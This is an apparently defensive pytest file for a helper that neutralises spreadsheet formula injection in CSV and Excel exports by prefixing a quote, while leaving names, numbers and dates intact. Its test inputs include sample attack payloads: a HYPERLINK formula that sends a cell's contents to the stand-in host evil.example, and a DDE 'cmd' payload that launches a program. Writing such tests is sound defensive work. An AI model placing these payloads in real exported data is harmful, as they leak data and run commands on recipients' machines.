"""Formula injection: the one helper every CSV and Excel writer uses."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from guanhuai.core.cells import csv_writer, safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&C7,"x")',
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
    ],
)
def test_a_text_a_spreadsheet_would_run_gets_a_quote_in_front(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "王建国",
        "",
        None,
        590,
        -12,
        Decimal("-12.50"),
        1.5,
        "-12.50",
        "+8613800000000",
        "590.00",
        dt.date(2026, 1, 2),
    ],
)
def test_names_numbers_negative_amounts_and_dates_are_left_alone(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_the_quote_is_added_once():
    assert safe_cell(safe_cell("=1+1")) == "'=1+1"


def test_the_csv_writer_neutralises_every_cell_and_keeps_numbers():
    buf = io.StringIO()
    w = csv_writer(buf, lineterminator="\n")
    w.writerow(["=1+1", "@x", Decimal("-3.00"), -4])
    w.writerows([["ok", "-5.00"]])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=1+1", "'@x", "-3.00", "-4"], ["ok", "-5.00"]]
    assert safe_row(("=a", 1)) == ["'=a", 1]


@pytest.mark.parametrize("engine", ["xlsxwriter", "openpyxl"])
def test_both_streaming_engines_write_the_same_cells_and_never_a_formula(engine):
    from openpyxl import load_workbook

    from guanhuai.core.xlsx_stream import XlsxStream

    out = io.BytesIO()
    with XlsxStream(out, "表", widths=[10, 12], engine=engine) as sheet:
        sheet.append(["姓名", "出生日期", "金额", "备注", "网址"])
        sheet.append(
            ['=HYPERLINK("http://x","y")', dt.date(1960, 5, 1), Decimal("-12.50"), None, "http://x.cn"]
        )
        sheet.append(["王建国", dt.date(2001, 1, 2), 3, "", "-5"])
    ws = load_workbook(io.BytesIO(out.getvalue())).active
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    # Excel cells hold naive date-times: that is what openpyxl reads back.
    assert rows[1][:3] == ['\'=HYPERLINK("http://x","y")', dt.datetime(1960, 5, 1), -12.5]  # noqa: DTZ001
    assert rows[1][4] == "http://x.cn" and not ws["E2"].hyperlink
    assert rows[2][:3] == ["王建国", dt.datetime(2001, 1, 2), 3] and rows[2][4] == "-5"  # noqa: DTZ001
    assert ws["B2"].number_format == "yyyy-mm-dd"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
